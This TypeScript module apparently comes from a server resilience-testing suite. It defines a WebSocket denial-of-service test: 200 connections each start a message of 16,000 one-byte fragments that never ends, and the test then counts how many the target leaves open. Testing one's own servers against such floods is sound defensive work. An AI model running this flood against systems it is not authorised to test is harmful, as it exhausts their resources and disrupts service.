import { setTimeout as pause } from "node:timers/promises";
import { type Attack, DELAYS } from "../attack.ts";
import { type AttackClient, destroyAll } from "../client.ts";
import { frame, manyFrames } from "../frames.ts";
import { openWebSocket } from "./web_socket_flood.ts";

const CONNECTIONS = 200;
/** A message that does not end, in as many fragments as it has bytes. */
const FRAGMENTS = manyFrames(frame("continuation", "x", { fin: false }), 16_000);

export const oneByteFragments: Attack = {
  name: "one-byte-fragments",
  does: "200 WebSockets begin a message of 16 000 fragments of one byte each and don't end it, held 8 s",
  seconds: 8,
  maxDelayMs: DELAYS.usual,
  right: [],
  async run(target, seconds) {
    const clients: AttackClient[] = [];
    const end = performance.now() + seconds * 1000;
    while (clients.length < CONNECTIONS) {
      const client = await openWebSocket(target);
      client.send(frame("text", "x", { fin: false }));
      client.send(FRAGMENTS);
      clients.push(client);
    }
    await pause(Math.max(0, end - performance.now()));
    const open = clients.filter(({ isClosed }) => !isClosed).length;
    destroyAll(clients);
    return { "connections left open": open };
  },
};
